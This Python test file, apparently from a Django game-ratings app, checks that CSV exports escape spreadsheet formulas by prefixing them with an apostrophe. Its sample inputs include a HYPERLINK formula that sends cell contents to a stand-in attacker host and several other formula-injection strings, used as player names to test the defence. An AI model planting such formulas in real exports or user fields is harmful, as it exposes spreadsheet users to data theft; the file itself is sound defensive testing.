"""CSV exports never hand a spreadsheet a formula (OWASP "CSV injection"): a cell that begins with
= + - @ tab or carriage return is written with a leading apostrophe, unless it is a plain number.
Player names are typed by anyone who records a game: `=HYPERLINK(...)` must arrive as text."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from bench.ratings_lab.fixtures import load_history
from bench.ratings_lab.synthetic import synthetic_history
from games.csv_export import safe_cell
from games.models import Club
from games.ratings import services

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=1;=2"]
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


@pytest.fixture
def formula_club(db):
    club = Club.objects.create(name="League", slug="league")
    _, games = synthetic_history(40, 7, seed=2)
    ids = sorted({p for g in games for p in g.players}, key=str)
    names = {p: FORMULAS[i] if i < len(FORMULAS) else f"Plain {p}" for i, p in enumerate(ids)}
    pid = load_history(club, games, names=names)
    services.recompute_club(club.pk)
    return club, pid, names


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert NUMBER.match(cell), f"a spreadsheet would run {cell!r}"


def test_league_csv_escapes_formula_names(formula_club):
    club, _, names = formula_club
    text = Client().get(f"/clubs/{club.pk}/league.csv").content.decode()
    assert_no_formula(text)
    written = cells(text)
    for name in FORMULAS:
        assert "'" + name in written, name  # kept, as text
    assert any(NUMBER.match(c) and c.startswith("-") for c in written) or any(c.startswith("+") for c in written)


def test_player_csv_escapes_formula_names_of_partners_and_opponents(formula_club):
    club, pid, names = formula_club
    client = Client()
    for history_id in pid:
        text = client.get(f"/players/{pid[history_id]}.csv").content.decode()
        assert_no_formula(text)
    joined = "".join(client.get(f"/players/{p}.csv").content.decode() for p in pid.values())
    assert "'=HYPERLINK(" in joined


@given(st.text(max_size=12) | st.sampled_from(FORMULAS))
def test_a_cell_is_never_a_formula_and_keeps_its_text(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.match(cell)
    assert cell in (text, "'" + text)
    assert (cell == text) == (not text[:1] or text[0] not in "=+-@\t\r" or bool(NUMBER.match(text)))
